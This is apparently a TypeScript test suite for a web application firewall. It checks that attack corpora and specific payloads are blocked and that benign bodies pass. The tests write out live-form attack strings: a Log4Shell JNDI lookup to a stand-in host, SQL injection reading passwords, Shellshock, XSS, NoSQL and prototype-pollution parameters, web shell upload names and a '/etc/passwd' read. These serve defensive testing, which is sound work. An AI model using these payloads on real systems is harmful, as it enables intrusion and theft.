import assert from 'node:assert/strict'
import { test } from 'node:test'
import { compileRules } from './compile.ts'
import { type CorpusCase, type CorpusPart, loadCorpus } from './test-corpus.ts'
import { countClasses } from './test-corpus-table.ts'
import { baseRuleSources, send } from './test-requests.ts'

const rules = compileRules(baseRuleSources(), { paranoia: 1 })

const describe = ({ placement, text }: CorpusCase): string => `${placement}: ${text}`

for (const part of ['attacks', 'held-out/attacks'] as const) {
  test(`at least 95 % of the attacks of every class are refused: ${part}`, () => {
    for (const { class: name, requests, wrong } of countClasses(rules, part))
      assert.ok(
        wrong.length <= requests * 0.05,
        `${name}: ${wrong.length} of ${requests} pass:\n${wrong.map(describe).join('\n')}`,
      )
  })
}

for (const part of ['benign', 'held-out/benign'] as const) {
  test(`at most 0.2 % of what only looks like an attack is refused: ${part}`, () => {
    const counts = countClasses(rules, part)
    const requests = counts.reduce((sum, count) => sum + count.requests, 0)
    const wrong = counts.flatMap((count) => count.wrong)
    const why = wrong.map((one) => `${send(rules, one.sent).matches.map(({ ruleId }) => ruleId)} ${describe(one)}`)
    assert.ok(wrong.length <= requests * 0.002, `${wrong.length} of ${requests} refused:\n${why.join('\n')}`)
  })
}

test('the corpus is as large as it is said to be', () => {
  const size = (part: CorpusPart): number => new Set(loadCorpus(part).map(({ class: name, text }) => `${name} ${text}`)).size
  assert.ok(size('attacks') >= 2_000, `${size('attacks')} attacks`)
  assert.ok(size('benign') >= 5_000, `${size('benign')} honest texts`)
})

const LOOKUP = '$' + '{jndi:ldap://evil.example/a}'

test('attacks in cookies and headers are refused', () => {
  for (const [header, value] of [
    ['Cookie', "sid=1; id=1' OR 1=1--"],
    ['Cookie', `x=${LOOKUP}`],
    ['User-Agent', 'sqlmap/1.7'],
    ['User-Agent', '() { :; }; /bin/id'],
    ['X-Api-Version', LOOKUP],
    ['Referer', "https://a.example/' UNION SELECT 1,2--"],
  ] as const)
    assert.equal(send(rules, { headers: [[header, value]] }).blocked, true, `${header}: ${value}`)
})

test('uploads of programs are refused, of pictures not', () => {
  const upload = (name: string): boolean =>
    send(rules, {
      headers: [['Content-Type', 'multipart/form-data; boundary=B']],
      body: `--B\r\nContent-Disposition: form-data; name="file"; filename="${name}"\r\nContent-Type: image/png\r\n\r\n\x89PNG\r\n--B--\r\n`,
    }).blocked
  for (const name of ['shell.php', 'shell.php5', 'x.jsp', 'x.PHTML', '../../x.sh', '.htaccess'])
    assert.equal(upload(name), true, name)
  for (const name of ['cat.png', 'my holiday (2).jpeg', 'report.final.pdf', "Ann's notes.txt"])
    assert.equal(upload(name), false, name)
})

test('a body that is not what its type says is refused', () => {
  for (const [type, body] of [
    ['application/json', '{"a":'],
    ['multipart/form-data', 'x=1'],
    ['multipart/form-data; boundary=a; boundary=b', '--a\r\n'],
  ] as const)
    assert.equal(send(rules, { headers: [['Content-Type', type]], body }).blocked, true, type)
})

test('arguments with operators and prototypes in their names are refused', () => {
  for (const target of ['/login?user[$ne]=1', '/x?__proto__[admin]=1', '/x?constructor[prototype][a]=1', '/x?a.$where=1'])
    assert.equal(send(rules, { target }).blocked, true, target)
})

const SQL = "1' UNION SELECT password FROM users-- "

test('an attack is found in whatever body it hides', () => {
  const json = JSON.stringify({ q: SQL })
  const part = (head: string): string => `--B\r\nContent-Disposition: form-data; ${head}\r\n\r\n${SQL}\r\n--B--\r\n`
  for (const [type, body] of [
    ['text/plain', SQL],
    ['text/xml', `<a><b>${SQL}</b></a>`],
    ['application/xml', `<a b="${SQL}"/>`],
    ['image/png', json],
    ['application/octet-stream', json],
    ['text/plain', `${json} x`],
    ['application/x-www-form-urlencoded', '{"q":"; cat /etc/passwd"}'],
    ['application/json', `\ufeff${json}`],
    ['application/json; charset=utf-7', '{}'],
    ['application/json; charset = utf-16', '{}'],
    ['multipart/form-data; boundary=B', part('x="; filename=f"; name="q"')],
    ['multipart/form-data; boundary=B', part('name="q"; filename=""')],
    ['multipart/form-data; boundary=B', `x\n--B\r\nContent-Disposition: form-data; name="q"\r\n\r\n${SQL}\r\n--B--`],
    ["multipart/form-data; boundary=A; boundary*=utf-8''B", part('name="q"')],
  ] as const)
    assert.equal(send(rules, { headers: [['Content-Type', type]], body }).blocked, true, `${type}: ${body}`)
  for (const coding of ['gzip', 'deflate', 'br', 'identity, gzip'])
    assert.equal(send(rules, { headers: [['Content-Encoding', coding]], body: 'x' }).blocked, true, coding)
})

test('padding hides nothing', () => {
  const form = (text: string): boolean =>
    send(rules, { headers: [['Content-Type', 'application/x-www-form-urlencoded']], body: `q=${encodeURIComponent(text)}` })
      .blocked
  assert.equal(form(`${'A'.repeat(16_400)}' UNION SELECT password FROM users-- `), true)
  assert.equal(form(`${'A'.repeat(40_000)}<svg onload=alert(1)>`), true)
  assert.equal(form(`${'<b>'.repeat(1_200)}<svg onload=alert(1)>`), true)
  assert.equal(form(`<a ${'x=1 '.repeat(1_200)} onclick=alert(1)>`), true)
})

test('honest bodies pass: pictures, long lists of numbers, blank and marked JSON, transfer encodings that say nothing', () => {
  let state = 1
  const bytes = Uint8Array.from({ length: 100_000 }, () => {
    state = (Math.imul(state ^ (state >>> 15), 0x85ebca6b) + 0x9e3779b9) | 0
    return state >>> 13
  })
  const points = JSON.stringify({ points: Array.from({ length: 2_000 }, (_, x) => ({ x, y: -x / 3, on: true, z: null })) })
  for (const [type, body] of [
    ['image/jpeg', bytes],
    ['application/octet-stream', bytes],
    ['application/json', points],
    ['application/json', ''],
    ['application/json', ' \n'],
    ['application/json; charset=UTF-8', '\ufeff{"a":"b"}'],
    ['application/x-www-form-urlencoded; charset="iso-8859-1"', 'a=b'],
    [
      'multipart/form-data; boundary=B',
      '--B\r\nContent-Disposition: form-data; name="a"\r\nContent-Transfer-Encoding: binary\r\n\r\nx\r\n--B--',
    ],
  ] as const)
    assert.deepEqual(send(rules, { headers: [['Content-Type', type]], body }).matches, [], type)
})
